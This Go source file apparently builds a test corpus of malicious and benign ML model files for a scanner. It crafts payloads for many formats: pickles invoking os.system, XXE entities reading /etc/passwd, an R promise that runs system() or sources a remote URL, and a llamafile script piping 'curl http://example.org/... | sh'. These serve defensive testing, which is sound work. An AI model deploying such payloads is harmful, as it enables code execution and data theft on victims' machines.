package main

import (
	"encoding/binary"
	"unicode/utf16"
)

// secondFrameworks are attacks on Core ML, Paddle, MXNet, JAX, boosting libraries and packagings of models.
func secondFrameworks(c *corpus) {
	other := func(class, why, name string, data []byte) { c.secondBad("other", class, why, name, data) }
	feature := func(name string) proto {
		return proto{}.str(1, name).bin(3, proto{}.bin(5, proto{}.num(1, 4).num(2, 65568)))
	}
	model := func(field int, body proto) proto {
		return proto{}.num(1, 7).bin(2, proto{}.bin(1, feature("x")).bin(10, feature("y"))).bin(field, body)
	}
	layer := func(kind int, body proto) proto {
		return proto{}.bin(1, proto{}.str(1, "l").str(2, "x").str(3, "y").bin(kind, body))
	}
	custom := layer(500, proto{}.str(10, "EvilLayer").str(40, "needs a class"))
	const core = "Core ML instantiates the app's class of that name to run the layer; Core ML specification NeuralNetwork.proto, Model.proto"
	other("core ml custom code", core, "classifier.mlmodel", model(403, custom))
	other("core ml custom code", core, "regressor.mlmodel", model(303, custom))
	other("core ml custom code", core+", inside of a pipeline", "pipeline.mlmodel", model(202, proto{}.bin(1, model(500, layer(130, proto{}.bin(10, proto{})))).bin(1, model(500, custom)).str(2, "a").str(2, "b")))
	other("core ml custom code", core+", inside of a pipeline of a pipeline", "pipeline.mlmodel", model(200, proto{}.bin(1, proto{}.bin(1, model(202, proto{}.bin(1, model(555, proto{}.str(10, "EvilModel"))))))))
	program := func(file string) proto {
		value := proto{}.bin(2, proto{}.bin(1, proto{}.num(1, 11))).bin(5, proto{}.str(1, file).num(2, 64))
		op := proto{}.str(1, "const").bin(3, proto{}.str(1, "w")).bin(5, proto{}.str(1, "val").bin(2, value))
		block := proto{}.str(2, "w").bin(3, op)
		function := proto{}.str(2, "CoreML5").bin(3, proto{}.str(1, "CoreML5").bin(2, block))
		return model(502, proto{}.num(1, 1).bin(2, proto{}.str(1, "main").bin(2, function)))
	}
	for _, file := range []string{"/etc/passwd", "@model_path/../../../secret.bin"} {
		other("core ml blob elsewhere", "the program's constants are read from a file outside of the package; Core ML MIL.proto BlobFileValue", "model.mlmodel", program(file))
	}

	le := binary.LittleEndian
	blob := append(le.AppendUint32(le.AppendUint32(nil, 1), 2), make([]byte, 56)...)
	blob = le.AppendUint64(le.AppendUint64(le.AppendUint32(le.AppendUint32(blob, 0xdeadbeef), 1), 16), 128)
	blob = append(blob, make([]byte, 144-len(blob))...)
	c.secondGoodFolder("other", "core ml program", map[string][]byte{"m.mlpackage/Manifest.json": []byte(`{"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A1": {"author": "com.apple.CoreML", "description": "CoreML Model Specification", "name": "model.mlmodel", "path": "com.apple.CoreML/model.mlmodel"}, "B2": {"author": "com.apple.CoreML", "description": "CoreML Model Weights", "name": "weights", "path": "com.apple.CoreML/weights"}}, "rootModelIdentifier": "A1"}`), "m.mlpackage/Data/com.apple.CoreML/model.mlmodel": program("@model_path/weights/weight.bin"), "m.mlpackage/Data/com.apple.CoreML/weights/weight.bin": blob})

	paddleOp := func(kind string, attrs ...proto) proto {
		p := proto{}.bin(1, proto{}.str(1, "X").str(2, "x")).bin(2, proto{}.str(1, "Out").str(2, "y")).str(3, kind)
		for _, a := range attrs {
			p = p.bin(4, a)
		}
		return p
	}
	paddle := func(blocks ...proto) proto {
		var p proto
		for i, ops := range blocks {
			v := proto{}.str(1, "x").bin(2, proto{}.num(1, 7).bin(3, proto{}.bin(1, proto{}.num(1, 5).num(2, 4))))
			p = p.bin(1, append(proto{}.num(1, i).num(2, 0).bin(3, v), ops...))
		}
		return p.bin(4, proto{}.num(1, 2005000))
	}
	text := func(name, value string) proto { return proto{}.str(1, name).num(2, 2).str(5, value) }
	const pd = "the executor runs the op as it stands in the program; Paddle framework.proto and operators"
	other("paddle program", pd+": py_func calls Python, inside of a conditional block", "inference.pdmodel", paddle(proto{}.bin(4, paddleOp("conditional_block", proto{}.str(1, "sub_block").num(2, 8).num(12, 1))), proto{}.bin(4, paddleOp("py_func", proto{}.str(1, "forward_callable_id").num(2, 0).num(3, 0)))))
	other("paddle program", pd+": load_combine reads a file", "__model__", paddle(proto{}.bin(4, paddleOp("load_combine", text("file_path", "/etc/passwd")))))
	other("paddle program", pd+": send speaks to another machine", "inference.pdmodel", paddle(proto{}.bin(4, paddleOp("send", text("endpoint", "example.org:6174")))))
	other("paddle program", pd+": listen_and_serv opens a port", "inference.pdmodel", paddle(proto{}.bin(4, paddleOp("listen_and_serv", text("endpoint", "0.0.0.0:6174")))))
	c.secondOpen("other", "paddle op nobody knows", "a custom op comes from a library that must be loaded", "inference.pdmodel", paddle(proto{}.bin(4, paddleOp("evil_custom_op"))))
	c.secondGood("other", "paddle", "inference.pdmodel", paddle(proto{}.bin(4, paddleOp("relu")).bin(4, paddleOp("softmax", proto{}.str(1, "axis").num(2, 0).num(3, 1)))))

	const mx = "MXNet calls the Python class registered under op_type, or the address in info; operator/custom of MXNet"
	symbol := func(nodes string) []byte {
		return []byte(`{"nodes": [{"op": "null", "name": "data", "inputs": []}, ` + nodes + `], "arg_nodes": [0], "node_row_ptr": [0, 1, 2], "heads": [[1, 0, 0]], "attrs": {"mxnet_version": ["int", 10600]}}`)
	}
	other("mxnet custom op", mx+"; older key param", "net-symbol.json", symbol(`{"op": "Custom", "param": {"op_type": "evil"}, "name": "c", "inputs": [[0, 0]], "backward_source_id": -1}`))
	other("mxnet custom op", mx+"; key attr", "net-symbol.json", symbol(`{"op": "Custom", "attr": {"op_type": "evil"}, "name": "c", "inputs": [[0, 0, 0]]}`))
	other("mxnet custom op", mx+"; in the subgraph of a loop", "net-symbol.json", symbol(`{"op": "_foreach", "name": "f", "attrs": {"num_args": "1"}, "inputs": [[0, 0, 0]], "subgraphs": [`+string(symbol(`{"op": "_NDArray", "name": "c", "attrs": {"info": "0x7f00"}, "inputs": [[0, 0, 0]]}`))+`]}`))
	other("mxnet archive", "the model server imports the service file of the archive; mxnet-model-server", "model.mar", zipped(entry{name: "MAR-INF/MANIFEST.json", data: []byte(`{"runtime": "python", "model": {"modelName": "m", "handler": "service.py:handle"}, "modelServerVersion": "1.0"}`)}, entry{name: "service.py", data: []byte("import os\nos.system('" + cmd + "')\ndef handle(data, context):\n    return data\n")}))

	c.secondGood("other", "mxnet", "net-symbol.json", symbol(`{"op": "FullyConnected", "name": "fc", "attrs": {"num_hidden": "10"}, "inputs": [[0, 0, 0]]}`))

	const jax = "what Flax or the user's code unpickles runs; Flax legacy checkpoints, haiku examples with pickle"
	other("jax checkpoint", jax, "checkpoint_100", pickled(style{proto: 4, global: byStack, frame: true, memo: true}, dict{"params", fn("os", "system", cmd)}))
	other("jax checkpoint", jax, "params.pkl", pickled(style{proto: 5, global: byStack}, dict{"step", 1, "opt", fn("subprocess", "check_call", list{"echo", "x"})}))
	const zarr = "zarr decodes chunks of objects with the filter pickle; numcodecs.Pickle, Orbax and TensorStore folders are zarr"
	for _, name := range []string{"0", "0.0"} {
		c.secondBadFolder("other", "zarr of objects", zarr, map[string][]byte{"params/.zarray": []byte(`{"chunks": [1], "compressor": null, "dtype": "|O", "fill_value": 0, "filters": [{"id": "pickle", "protocol": 4}], "order": "C", "shape": [1], "zarr_format": 2}`), "params/" + name: pickled(style{proto: 4, global: byStack}, fn("posix", "system", cmd)), ".zgroup": []byte(`{"zarr_format": 2}`)})
	}
	c.secondGoodFolder("other", "zarr", map[string][]byte{"params/.zarray": []byte(`{"chunks": [2], "compressor": null, "dtype": "<f4", "fill_value": null, "filters": null, "order": "C", "shape": [2], "zarr_format": 2}`), "params/0": make([]byte, 8), ".zgroup": []byte(`{"zarr_format": 2}`)})
	const boost = "a model saved with pickle or joblib is unpickled whole; scikit-learn interface of XGBoost and LightGBM"
	for _, name := range []string{"model.bst", "model.xgb", "lgb.txt", "model.cbm", "booster.model"} {
		other("boosting model that is a pickle", boost, name, pickled(style{proto: 4, global: byStack, frame: true}, dict{"booster", fn("xgboost.core", "Booster"), "callbacks", list{fn("os", "system", cmd)}}))
	}
	other("boosting model that is a pickle", boost, "lgbm.joblib", packed("zlib", pickled(style{proto: 3}, dict{"objective", fn("builtins", "eval", code)})))

	const named = "the loader imports the class by the name in the file and calls it; sentence_transformers modules.json, import_from_string"
	for _, kind := range []string{"subprocess.Popen", "os.system"} {
		c.secondBadFolder("other", "class by its name", named, map[string][]byte{"modules.json": []byte(`[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_X", "type": "` + kind + `"}]`), "config_sentence_transformers.json": []byte(`{"__version__": {"sentence_transformers": "2.2.2"}}`)})
	}
	c.secondGoodFolder("other", "sentence transformer", map[string][]byte{"modules.json": []byte(`[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]`), "1_Pooling/config.json": []byte(`{"word_embedding_dimension": 384, "pooling_mode_mean_tokens": true}`)})
	const flow = "mlflow.pyfunc.load_model imports loader_module and puts the folder of code on the path; MLflow models documentation"
	c.secondBadFolder("other", "mlflow loader", flow, map[string][]byte{"MLmodel": []byte("artifact_path: model\nflavors:\n  python_function:\n    code: code\n    data: data\n    loader_module: evil_loader\n    python_version: 3.10.4\nmlflow_version: 2.3.0\n"), "code/evil_loader.py": []byte("import os\nos.system('" + cmd + "')\ndef _load_pyfunc(path):\n    return None\n"), "data/x": []byte("x")})
	c.secondBadFolder("other", "mlflow loader", "the pickled python model runs when it is loaded; MLflow pyfunc", map[string][]byte{"MLmodel": []byte("flavors:\n  python_function:\n    cloudpickle_version: 2.2.1\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    python_version: 3.10.4\n"), "python_model.pkl": system()})
}

// liteModel is a TFLite model whose operator codes and ops are given: each op is an index of a code.
func liteModel(codes []table, subgraphs ...[]uint32) []byte {
	var subs []table
	for i, ops := range subgraphs {
		tensor := func(name string, buffer uint32) table { return table{[]int32{1, 4}, byte(0), buffer, name} }
		var list []table
		for _, code := range ops {
			list = append(list, table{code, []int32{0}, []int32{1}})
		}
		subs = append(subs, table{[]table{tensor("x", 1), tensor("y", 2)}, []int32{0}, []int32{1}, list, []string{"main", "body", "third"}[i]})
	}
	return flat("TFL3", table{uint32(3), codes, subs, "corpus", []table{{}, {}, {}}})
}

func liteCode(builtin uint32, custom string) table {
	code := table{byte(min(builtin, 127)), nil, uint32(1), builtin}
	if custom != "" {
		code[1] = custom
	}
	return code
}

// secondFlat are attacks on TFLite.
func secondFlat(c *corpus) {
	const why = "the Flex delegate runs the op of TensorFlow that the custom op names; TFLite select ops"
	relu := liteCode(19, "")
	for _, op := range []string{"FlexMatchingFiles", "FlexSaveV2", "FlexImmutableConst", "FlexTextLineDataset", "FlexPrintV2", "FlexDebugIdentityV2", "FlexPyFuncStateless", "FlexMergeV2Checkpoints", "FlexRestoreV2"} {
		c.secondBad("other", "tflite flex op", why, "model.tflite", liteModel([]table{relu, liteCode(32, op)}, []uint32{0, 1}))
	}
	c.secondBad("other", "tflite flex op", why+"; in a second subgraph, as a branch has it", "model.tflite", liteModel([]table{relu, liteCode(118, ""), liteCode(32, "FlexWriteFile")}, []uint32{1}, []uint32{0, 2}))
	c.secondBad("other", "tflite with an archive behind", "the metadata library unpacks the archive behind the model; a pickle among the associated files runs in user code", "model.tflite", append(liteModel([]table{relu}, []uint32{0}), zipped(entry{name: "labels.pkl", data: system()})...))
	c.secondGood("other", "tflite", "model.tflite", liteModel([]table{relu, liteCode(9, "")}, []uint32{0, 1}))
	c.secondGood("other", "tflite", "model.tflite", liteModel([]table{liteCode(32, "TFLite_Detection_PostProcess"), relu}, []uint32{1, 0}))
	c.secondGood("other", "tflite", "model.tflite", append(liteModel([]table{relu}, []uint32{0}), zipped(entry{name: "labels.txt", data: []byte("cat\ndog\n")})...))
	for _, op := range []string{"EvilShell", "my_company_op"} {
		c.secondOpen("other", "tflite custom op", "a custom op comes from the app: nobody knows what it does", "model.tflite", liteModel([]table{liteCode(32, op)}, []uint32{0}))
	}
}

// secondLanguages are attacks through XML, R, Lua and programs that are models.
func secondLanguages(c *corpus) {
	other := func(class, why, name string, data []byte) { c.secondBad("other", class, why, name, data) }
	pmml := func(doctype, body string) string {
		return doctype + `<PMML xmlns="http://www.dmg.org/PMML-4_4" xmlns:xi="http://www.w3.org/2001/XInclude" version="4.4"><Header/><DataDictionary><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>` + body + `<TreeModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema><Node score="1"><True/></Node></TreeModel></PMML>`
	}
	const head = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
	const xxe = "a parser with entities switched on reads the file or address; CWE-611 as in parsers of PMML in Java"
	wide := func(s string) []byte {
		var b []byte
		for _, u := range utf16.Encode([]rune("\ufeff" + s)) {
			b = binary.LittleEndian.AppendUint16(b, u)
		}
		return b
	}
	other("xml entity", xxe+"; in UTF-16", "model.pmml", wide("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n"+pmml(`<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, `<Extension>&x;</Extension>`)))
	other("xml entity", xxe+"; PUBLIC and a comment between", "model.pmml", []byte(head+"<!-- a > b -->"+pmml("<!DOCTYPE\n PMML\n [<!-- ]> --><!ENTITY x PUBLIC 'a' \"http://example.org/x\">]>", `<Extension>&x;</Extension>`)))
	other("xml entity", xxe+"; packed", "model.pmml.gz", packed("gzip", []byte(head+pmml(`<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, `<Extension>&x;</Extension>`))))
	other("xml include", "XInclude puts the file into the document; CWE-611", "model.pmml", []byte(head+pmml("", `<xi:include href="file:///etc/passwd" parse="text"/>`)))
	other("xml calls a class", "JPMML looks up functions whose name is that of a Java class, and calls it; jpmml-evaluator user-defined functions", "model.pmml", []byte(head+pmml("", `<TransformationDictionary><DerivedField name="d" optype="continuous" dataType="double"><Apply function="java.lang.Runtime.exec"><Constant dataType="string">echo</Constant></Apply></DerivedField></TransformationDictionary>`)))
	ir := func(layer string) string {
		return `<net name="n" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,4" element_type="f32"/><output><port id="0" precision="FP32"><dim>1</dim><dim>4</dim></port></output></layer>` + layer + `</layers><edges/></net>`
	}
	other("openvino", xxe, "model.xml", wide("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<!DOCTYPE net [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"+ir("")))
	other("openvino", "the layer's library is loaded by add_extension as its attributes say; inside of a loop's body; modelaudit's OpenVINO scanner", "model.xml", []byte(head+ir(`<layer id="1" name="t" type="TensorIterator" version="opset1"><body><layers><layer id="0" name="e" type="Evil" version="extension"><data library="/tmp/evil.so"/></layer></layers></body></layer>`)))
	c.secondOpen("other", "openvino op nobody knows", "the op needs an extension that is not with the model", "model.xml", []byte(head+ir(`<layer id="1" name="e" type="MyCompanyOp" version="extension"/>`)))

	const promise = "R forces the promise when the value is used, and runs the call; CVE-2024-27322"
	call := rCall{rSymbol("system"), rText(cmd)}
	raw := func(write func(*rWriter)) []byte {
		w := &rWriter{out: []byte("X\n")}
		w.num(3)
		w.num(0x40300)
		w.num(0x30500)
		w.num(5)
		w.out = append(w.out, "UTF-8"...)
		write(w)
		return w.out
	}
	env := func(w *rWriter, frame any) {
		w.num(4)
		w.num(0)
		w.num(253)
		w.value(frame)
		w.num(254)
		w.num(254)
	}
	other("r promise in another place", promise+"; in an environment", "model.rds", packed("gzip", raw(func(w *rWriter) { env(w, rList{rSymbol("fit"), rPromise{call}}) })))
	other("r promise in another place", promise+"; in an attribute", "model.rds", packed("gzip", raw(func(w *rWriter) {
		w.num(14 | 0x200)
		w.num(1)
		w.out = append(w.out, 0x3f, 0xf0, 0, 0, 0, 0, 0, 0)
		w.value(rList{rSymbol("terms"), rPromise{call}})
	})))
	other("r promise in another place", promise+"; in a list, in version 3", "model.rds", raw(func(w *rWriter) { w.num(19); w.num(2); w.value(rReal(1)); w.value(rPromise{call}) }))
	other("r promise in another place", promise+"; download and source", "model.RData", packed("gzip", append([]byte("RDX3\n"), raw(func(w *rWriter) {
		w.value(rList{rSymbol("model"), rPromise{rCall{rSymbol("source"), rCall{rSymbol("url"), rText(url)}}}})
	})...)))
	c.secondGood("other", "rds", "model.rds", packed("gzip", raw(func(w *rWriter) { w.num(19); w.num(2); w.value(rReal(1)); w.value(rText("a")) })))

	const lua = "torch.load rebuilds the function from its bytecode, and the module calls it; Torch7 File.lua"
	function := func(kind uint32) []byte {
		b := t7(nil, kind)
		if kind != 6 {
			b = t7(b, 1)
		}
		b = t7Text(b, "\x1bLJ\x01\x00os.execute")
		return t7(b, 3, 2, 0)
	}
	other("torch7 function", lua, "model.t7", function(6))
	other("torch7 function", lua, "model.t7", function(7))
	nested := t7Text(t7(nil, 3, 1, 1, 2), "modules")
	nested = t7Text(t7(nested, 3, 2, 1, 2), "hook")
	nested = t7(t7Text(t7(nested, 8, 3), "\x1bLJ\x02\x00os.execute"), 3, 4, 0)
	other("torch7 function", lua+"; in a table of a table", "model.t7", nested)
	const ape = "a llamafile is a program and an archive in one: whoever runs the model runs its script; Mozilla llamafile, modelaudit"
	script := "MZqFpD='\n" + "\n#'\"\n\ncurl -s http://example.org/lodemark-corpus | sh\nexit\n"
	other("llamafile", ape, "model.llamafile", archive{before: []byte(script), shift: true, entries: []entry{{name: ".args", data: []byte("-m\nmodel.gguf\n")}, {name: "model.gguf", data: gguf()}}}.bytes())
	other("llamafile", ape, "model.llamafile", append(elf(), zipped(entry{name: "model.gguf", data: gguf()}, entry{name: ".args", data: []byte("--server\n")})...))
}
